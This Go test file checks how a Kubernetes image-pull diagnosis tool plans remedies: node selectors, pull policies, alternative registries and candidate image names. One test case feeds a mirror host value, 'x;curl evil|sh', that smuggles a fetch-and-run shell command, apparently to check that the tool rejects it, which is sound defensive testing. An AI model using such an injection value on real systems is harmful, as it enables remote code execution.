// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package remedy_test

import (
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/pullmedic/pullmedic/catalog"
	"github.com/pullmedic/pullmedic/diagnosis"
	"github.com/pullmedic/pullmedic/evidence"
	"github.com/pullmedic/pullmedic/internal/remedy"
)

// a case of one diagnosis, and what is planned for it.
type planned struct {
	name    string
	k       remedy.Case
	o       remedy.Options
	want    []string // those of IDs, in order
	because string   // part of the first's
	risk    string   // part of one of the first's
}

func (c planned) run(t *testing.T, ids ...string) {
	t.Helper()
	var got []string
	var first *remedy.Remedy
	for _, r := range plan(t, c.k, c.o) {
		if slices.Contains(ids, r.ID) {
			got = append(got, told(r))
			if first == nil {
				first = &r
			}
		}
	}
	if !slices.Equal(got, c.want) {
		t.Fatalf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(c.want, "\n"))
	}
	if first == nil {
		return
	}
	if !strings.Contains(first.Because, c.because) {
		t.Errorf("because %q, want %q in it", first.Because, c.because)
	}
	if c.risk != "" && !strings.Contains(strings.Join(first.Risks, "\n"), c.risk) {
		t.Errorf("risks %q, want %q in one", first.Risks, c.risk)
	}
}

func TestPodsAreKeptOnNodesWhosePlatformTheImageHas(t *testing.T) {
	amd, arm, windows := evidence.Platform{OS: "linux", Arch: "amd64"}, evidence.Platform{OS: "linux", Arch: "arm64"}, evidence.Platform{OS: "windows", Arch: "amd64"}
	absent := diagnose(t, catalog.PlatformMismatch, "", "app", good, evidence.Finding{
		Check: evidence.CheckPlatform, Outcome: evidence.PlatformAbsent, Details: map[string]string{"platforms": "linux/arm/v7 linux/arm64 unknown/unknown ...", "platform": "linux/amd64"},
	})
	only := func(kind string, platforms []evidence.Platform, edit func(*corev1.PodSpec)) remedy.Case {
		x := template(good)
		if edit != nil {
			edit(&x.Spec)
		}
		return remedy.Case{Target: target(kind, x), Platforms: platforms, Pods: []*corev1.Pod{pod("api-new", hash2, x, false, "app"), pod("api-old", hash2, x, true)}, Diagnoses: []diagnosis.Diagnosis{absent}}
	}
	required := func(key string, op corev1.NodeSelectorOperator, values ...string) func(*corev1.PodSpec) {
		return func(s *corev1.PodSpec) {
			s.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{RequiredDuringSchedulingIgnoredDuringExecution: &corev1.NodeSelector{
				NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchExpressions: []corev1.NodeSelectorRequirement{{Key: key, Operator: op, Values: values}}}},
			}}}
		}
	}
	// on has the ready pod on a node of this platform, and the failing one on another.
	on := func(at evidence.Platform, k remedy.Case) remedy.Case {
		k.Pods[1].Spec.NodeName = "worker-2"
		k.NodePlatforms = map[string]evidence.Platform{"worker-1": amd, "worker-2": at}
		return k
	}
	s390 := evidence.Platform{OS: "linux", Arch: "s390x"}
	two := diagnose(t, catalog.PlatformMismatch, "", "app", good, evidence.Finding{
		Check: evidence.CheckPlatform, Outcome: evidence.PlatformAbsent, Details: map[string]string{"platforms": "linux/arm64 linux/s390x", "platform": "linux/amd64"},
	})
	const title = "applied node-selector: Keep the pods on nodes of linux/arm64 | deployment/api "
	whole := []string{title + "/spec/template/spec/nodeSelector=map[kubernetes.io/arch:arm64] | restarts 1"}
	for _, c := range []planned{
		{name: "the cluster has such nodes", k: only("Deployment", []evidence.Platform{amd, arm}, nil), want: whole, because: "the image has linux/arm/v7, linux/arm64, and the cluster has nodes of linux/arm64"},
		{name: "the cluster has none", k: only("Deployment", []evidence.Platform{amd, windows}, nil)},
		{name: "nodes of other systems are told apart", k: only("Deployment", []evidence.Platform{amd, arm, windows}, nil),
			want: []string{title + "/spec/template/spec/nodeSelector=map[kubernetes.io/arch:arm64 kubernetes.io/os:linux] | restarts 1"}},
		{name: "a selector that is there stays", k: only("Deployment", []evidence.Platform{amd, arm}, func(s *corev1.PodSpec) { s.NodeSelector = map[string]string{"disk": "fast"} }),
			want: []string{title + "/spec/template/spec/nodeSelector/kubernetes.io~1arch=arm64 | restarts 1"}},
		{name: "the pod chose its platform", k: only("Deployment", []evidence.Platform{amd, arm}, func(s *corev1.PodSpec) { s.NodeSelector = map[string]string{"kubernetes.io/arch": "amd64"} })},
		{name: "the pod chose its platform in the old way", k: only("Deployment", []evidence.Platform{amd, arm}, func(s *corev1.PodSpec) { s.NodeSelector = map[string]string{"beta.kubernetes.io/arch": "amd64"} })},
		{name: "the pod chose its node", k: only("Deployment", []evidence.Platform{amd, arm}, func(s *corev1.PodSpec) { s.NodeSelector = map[string]string{"kubernetes.io/hostname": "worker-1"} })},
		{name: "the pod is for another system", k: only("Deployment", []evidence.Platform{amd, arm}, func(s *corev1.PodSpec) { s.OS = &corev1.PodOS{Name: corev1.Windows} })},
		{name: "its affinity leaves it open", k: only("Deployment", []evidence.Platform{amd, arm}, required("zone", corev1.NodeSelectorOpIn, "a")), want: whole},
		{name: "its affinity takes both", k: only("Deployment", []evidence.Platform{amd, arm}, required("kubernetes.io/arch", corev1.NodeSelectorOpIn, "amd64", "arm64")), want: whole},
		{name: "its affinity takes another", k: only("Deployment", []evidence.Platform{amd, arm}, required("kubernetes.io/arch", corev1.NodeSelectorOpIn, "amd64"))},
		{name: "its affinity shuts it out", k: only("Deployment", []evidence.Platform{amd, arm}, required("kubernetes.io/arch", corev1.NodeSelectorOpNotIn, "arm64"))},
		{name: "a pod lies where it lies", k: only("Pod", []evidence.Platform{amd, arm}, nil)},
		{name: "a Job's template cannot be changed", k: only("Job", []evidence.Platform{amd, arm}, nil)},
		{name: "a DaemonSet loses nodes", k: on(arm, only("DaemonSet", []evidence.Platform{amd, arm}, nil)), risk: "nodes of other platforms get no pod of it any more, which removes 1 pod",
			want: []string{"applied node-selector: Keep the pods on nodes of linux/arm64 | daemonset/api /spec/template/spec/nodeSelector=map[kubernetes.io/arch:arm64] | restarts 1"}},
		{name: "pods that are ready do not go for good unless that is asked for by name", k: on(amd, only("DaemonSet", []evidence.Platform{amd, arm}, nil)), because: "1 ready pod on nodes of other platforms would go for good",
			want: []string{"applied node-selector: Keep the pods on nodes of linux/arm64 [--with node-selector]"}},
		{name: "nor where it is not known what their nodes are", k: only("DaemonSet", []evidence.Platform{amd, arm}, nil), because: "1 ready pod on nodes of other platforms would go for good",
			want: []string{"applied node-selector: Keep the pods on nodes of linux/arm64 [--with node-selector]"}},
		{name: "it is asked for by name", k: on(amd, only("DaemonSet", []evidence.Platform{amd, arm}, nil)), o: remedy.Options{With: "node-selector"}, risk: "which removes 2 pods, 1 of them ready",
			want: []string{"applied node-selector: Keep the pods on nodes of linux/arm64 | daemonset/api /spec/template/spec/nodeSelector=map[kubernetes.io/arch:arm64] | restarts 1"}},
		{name: "of several platforms that the image has, all stay open", k: on(arm, func() remedy.Case {
			k := only("DaemonSet", []evidence.Platform{amd, arm, s390}, nil)
			k.Diagnoses = []diagnosis.Diagnosis{two}
			return k
		}()), risk: "which removes 1 pod", because: "the image has linux/arm64, linux/s390x, and the cluster has nodes of linux/arm64, linux/s390x",
			want: []string{"applied node-selector: Keep the pods on nodes of linux/arm64, linux/s390x | daemonset/api /spec/template/spec/affinity=" +
				"map[nodeAffinity:map[requiredDuringSchedulingIgnoredDuringExecution:map[nodeSelectorTerms:[map[matchExpressions:[map[key:kubernetes.io/arch operator:In values:[arm64 s390x]]]]]]]] | restarts 1"}},
		{name: "a Deployment's pods find other nodes", k: on(amd, only("Deployment", []evidence.Platform{amd, arm}, nil)), want: whole},
		{name: "--to comes instead", k: only("Pod", []evidence.Platform{amd, arm}, nil), o: remedy.Options{To: sidecar},
			want: []string{"applied set-image: Set container app to " + sidecar + " | pod/api /spec/containers/0/image=" + sidecar}},
	} {
		t.Run(c.name, func(t *testing.T) {
			ids := []string{"node-selector"}
			if c.o.To != "" {
				ids = append(ids, "set-image")
			}
			c.run(t, ids...)
		})
	}
}

func TestPoliciesOfPulling(t *testing.T) {
	never := template(good)
	never.Spec.Containers[0].ImagePullPolicy = corev1.PullNever
	neverPull := []diagnosis.Diagnosis{diagnose(t, catalog.NeverPull, "", "app", good)}
	unavailable := []diagnosis.Diagnosis{diagnose(t, catalog.RegistryUnavailable, "", "app", good)}
	failing := pod("api-new", hash2, template(good), false, "app")
	beside := ran(pod("api-old", hash2, template(good), true), "registry.example/acme/app", digestA)
	elsewhere := ran(pod("api-far", hash2, template(good), true), "registry.example/acme/app", digestA)
	elsewhere.Spec.NodeName = "worker-2"
	held := remedy.NodeImage{Node: "worker-1", Names: []string{"registry.example/acme/app@" + digestA, good}}
	two := remedy.NodeImage{Node: "worker-1", Names: []string{"registry.example/acme/app@" + digestA, "registry.example/acme/app@" + digestB, good}}
	const at = "/spec/template/spec/containers/0/"
	from := []string{"applied held-image: Start container app from what its node has, by digest | deployment/api " + at + "image=" + good + "@" + digestA + " " + at + "imagePullPolicy=IfNotPresent | restarts 1"}
	for _, c := range []planned{
		{name: "Never becomes IfNotPresent", k: remedy.Case{Target: target("Deployment", never), Diagnoses: neverPull},
			want: []string{"applied allow-pull: Let the kubelet pull for container app | deployment/api " + at + "imagePullPolicy=IfNotPresent"}},
		{name: "Never of a bare pod is handed over", k: remedy.Case{Target: target("Pod", never), Diagnoses: neverPull}, because: "the policy of a pod can never be changed",
			want: []string{"handed-over replace-pod: Let the kubelet pull for container app"}},
		{name: "another policy is not what fails", k: remedy.Case{Target: target("Deployment", template(good)), Diagnoses: neverPull}},
		{name: "a pod beside it shows that the node has it", k: remedy.Case{Target: target("Deployment", template(good)), Pods: []*corev1.Pod{failing, beside}, Diagnoses: unavailable},
			want: from, because: "worker-1 has sha256:aa11aa11aa11 already", risk: "a pod that lands on a node without the image"},
		{name: "the node's own list shows that it has it", k: remedy.Case{Target: target("Deployment", template(good)), Pods: []*corev1.Pod{failing, elsewhere}, NodeImages: []remedy.NodeImage{held}, Diagnoses: unavailable}, want: from},
		{name: "another node has it", k: remedy.Case{Target: target("Deployment", template(good)), Pods: []*corev1.Pod{failing, elsewhere}, Diagnoses: unavailable}},
		{name: "the node has two of that name", k: remedy.Case{Target: target("Deployment", template(good)), Pods: []*corev1.Pod{failing}, NodeImages: []remedy.NodeImage{two}, Diagnoses: unavailable}},
		{name: "it need not be asked for", k: remedy.Case{Target: target("Deployment", func() corev1.PodTemplateSpec {
			x := template(good)
			x.Spec.Containers[0].ImagePullPolicy = corev1.PullIfNotPresent
			return x
		}()), Pods: []*corev1.Pod{failing, beside}, Diagnoses: unavailable}},
		{name: "a bare pod's policy cannot be changed", k: remedy.Case{Target: target("Pod", template(good)), Pods: []*corev1.Pod{failing, beside}, Diagnoses: unavailable}},
	} {
		t.Run(c.name, func(t *testing.T) { c.run(t, "allow-pull", "held-image", "replace-pod") })
	}
	t.Run("a DaemonSet's pods are foreseen on their nodes", func(t *testing.T) {
		all := plan(t, remedy.Case{Target: target("DaemonSet", template(good)), Pods: []*corev1.Pod{failing, beside}, Diagnoses: unavailable}, remedy.Options{})
		if all[0].ID != "held-image" || all[0].Foresee.Pods[0].Spec.NodeName != "worker-1" {
			t.Errorf("got %s on %v", told(all[0]), all[0].Foresee)
		}
	})
}

func TestTheSameContentElsewhere(t *testing.T) {
	const nginx, amazon = "nginx:1.27", "public.ecr.aws/docker/library/nginx:1.27"
	limited := []diagnosis.Diagnosis{diagnose(t, catalog.RateLimited, "", "app", nginx)}
	failing := pod("api-new", hash2, template(nginx), false, "app")
	beside := ran(pod("api-old", hash2, template(nginx), true), "docker.io/library/nginx", digestA)
	by := func(kind string, digests map[string]string, others ...remedy.Copy) remedy.Case {
		return remedy.Case{Target: target(kind, template(nginx)), Pods: []*corev1.Pod{failing}, Digests: digests, Elsewhere: others, Diagnoses: limited}
	}
	same := remedy.Copy{Image: amazon, Digest: digestA, Where: "Amazon ECR Public keeps Docker's official images"}
	other := remedy.Copy{Image: amazon, Digest: digestB}
	mirror := remedy.Copy{Image: "mirror.corp.example/hub/nginx:1.27", Digest: digestA, Where: "runs in namespace web", Namespace: "web"}
	const at = " | deployment/api /spec/template/spec/containers/0/image="
	for _, c := range []planned{
		{name: "with the digest that is wanted, and pinned to it", k: by("Deployment", map[string]string{nginx: digestA}, same), because: "Amazon ECR Public keeps Docker's official images; it has the same content, sha256:aa11aa11aa11",
			risk: "from now on these pods depend on public.ecr.aws",
			want: []string{"applied copy-elsewhere: Pull the same content for container app as " + amazon + "@" + digestA + at + amazon + "@" + digestA}},
		{name: "of two, the one whose digest is equal", k: by("Deployment", map[string]string{nginx: digestA}, other, mirror),
			risk: "from now on these pods depend on mirror.corp.example, which pods of namespace web use already",
			want: []string{"applied copy-elsewhere: Pull the same content for container app as " + mirror.Image + "@" + digestA + at + mirror.Image + "@" + digestA}},
		{name: "with another digest it is not offered", k: by("Deployment", map[string]string{nginx: digestA}, other), because: "was not shown to have the content",
			want: []string{"applied copy-elsewhere: Pull the same content of container app from elsewhere [--to IMAGE]"}},
		{name: "with no digest to compare it is not offered", k: by("Deployment", nil, same), because: "which content is wanted is not known",
			want: []string{"applied copy-elsewhere: Pull the same content of container app from elsewhere [--to IMAGE]"}},
		{name: "what other pods run is wanted", k: func() remedy.Case {
			k := by("Deployment", nil, same)
			k.Pods = append(k.Pods, beside)
			return k
		}(), because: "other pods of it run it",
			want: []string{"applied copy-elsewhere: Pull the same content for container app as " + amazon + "@" + digestA + at + amazon + "@" + digestA + " | restarts 1"}},
		{name: "a bare pod takes it in place", k: by("Pod", map[string]string{nginx: digestA}, same),
			want: []string{"applied copy-elsewhere: Pull the same content for container app as " + amazon + "@" + digestA + " | pod/api /spec/containers/0/image=" + amazon + "@" + digestA}},
		{name: "nothing is known elsewhere", k: by("Deployment", map[string]string{nginx: digestA})},
		{name: "another tag of the same repository is not elsewhere", k: by("Deployment", map[string]string{nginx: digestA}, remedy.Copy{Image: "docker.io/library/nginx:latest", Digest: digestA})},
	} {
		t.Run(c.name, func(t *testing.T) { c.run(t, "copy-elsewhere") })
	}
}

func TestARetiredRegistry(t *testing.T) {
	const old, now = "registry.svc.ci.openshift.org/acme/tool:1", "registry.ci.openshift.org/acme/tool:1"
	retired := []diagnosis.Diagnosis{diagnose(t, catalog.RegistryRetired, "", "app", old)}
	by := func(digests map[string]string, others ...remedy.Copy) remedy.Case {
		return remedy.Case{Target: target("Pod", template(old)), Digests: digests, Elsewhere: others, Diagnoses: retired}
	}
	const at = " | pod/api /spec/containers/0/image="
	for _, c := range []planned{
		{name: "is not followed on its owner's word alone", k: by(nil), because: "rests on its owner's word",
			want: []string{"applied moved-image: Set container app to " + now + " [--with moved-image]"}},
		{name: "nor to what is there, with nothing to compare it with", k: by(nil, remedy.Copy{Image: now, Digest: digestA}),
			want: []string{"applied moved-image: Set container app to " + now + " [--with moved-image]"}},
		{name: "is followed when it is asked for by name", k: by(nil), o: remedy.Options{With: "moved-image"}, risk: "rests on its owner's word",
			want: []string{"applied moved-image: Set container app to " + now + at + now}},
		{name: "takes the content that was pulled before", k: by(map[string]string{old: digestA}, remedy.Copy{Image: now, Digest: digestA}),
			want: []string{"applied moved-image: Set container app to " + now + "@" + digestA + at + now + "@" + digestA}},
		{name: "is not followed to other content", k: by(map[string]string{old: digestA}, remedy.Copy{Image: now, Digest: digestB}), because: "has other content there",
			want: []string{"applied moved-image: Set container app to " + now + " [--to " + now + "]"}},
		{name: "--to comes instead", k: by(nil), o: remedy.Options{To: good}},
	} {
		t.Run(c.name, func(t *testing.T) { c.run(t, "moved-image", "copy-elsewhere") })
	}
}

func TestCandidatesAreNamesWorthAsking(t *testing.T) {
	mirror := evidence.Finding{Check: evidence.CheckMirrors, Outcome: evidence.MirrorAnswers, Details: map[string]string{"host": "mirror.corp.example:5000", "digest": digestA}}
	for name, c := range map[string]struct {
		image string
		found []evidence.Finding
		want  []string
	}{
		"an official image of Docker's":  {"nginx", nil, []string{"public.ecr.aws/docker/library/nginx:latest"}},
		"one with a digest":              {"nginx:1@" + digestA, nil, []string{"public.ecr.aws/docker/library/nginx:1@" + digestA}},
		"another image of Docker Hub":    {"acme/nginx:1", nil, nil},
		"a library of another host":      {"quay.io/library/nginx:1", nil, nil},
		"a frozen repository":            {"gcr.io/google_containers/pause:3.9", nil, []string{"registry.k8s.io/pause:3.9"}},
		"a repository that moved alone":  {"gcr.io/kubebuilder/kube-rbac-proxy:v0.13.1", nil, []string{"quay.io/brancz/kube-rbac-proxy:v0.13.1"}},
		"a registry that moved":          {"k8s.gcr.io/ingress-nginx/controller:v1", nil, []string{"registry.k8s.io/ingress-nginx/controller:v1"}},
		"a repository of a hub":          {"bitnami/redis:7.0", nil, []string{"docker.io/bitnamilegacy/redis:7.0"}},
		"a mirror that has it":           {"quay.io/acme/app:1", []evidence.Finding{mirror}, []string{"mirror.corp.example:5000/acme/app:1"}},
		"an invalid name":                {"quay.io/acme/App:1", []evidence.Finding{mirror}, nil},
		"a mirror with a strange name":   {"quay.io/acme/app:1", []evidence.Finding{{Outcome: evidence.MirrorAnswers, Details: map[string]string{"host": "x;curl evil|sh"}}}, nil},
		"a mirror that is the registry":  {"quay.io/acme/app:1", []evidence.Finding{{Outcome: evidence.MirrorAnswers, Details: map[string]string{"host": "quay.io"}}}, nil},
		"a mirror that does not have it": {"quay.io/acme/app:1", []evidence.Finding{{Outcome: evidence.MirrorLacks, Details: map[string]string{"host": "mirror.corp.example"}}}, nil},
	} {
		var got []string
		for _, c := range remedy.Candidates(load(t), diagnose(t, catalog.RegistryUnavailable, "", "app", c.image, c.found...)) {
			got = append(got, c.Image)
			if c.Where == "" || c.Digest != "" && c.Digest != digestA {
				t.Errorf("%s: %+v", name, c)
			}
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: got %q, want %q", name, got, c.want)
		}
	}
}
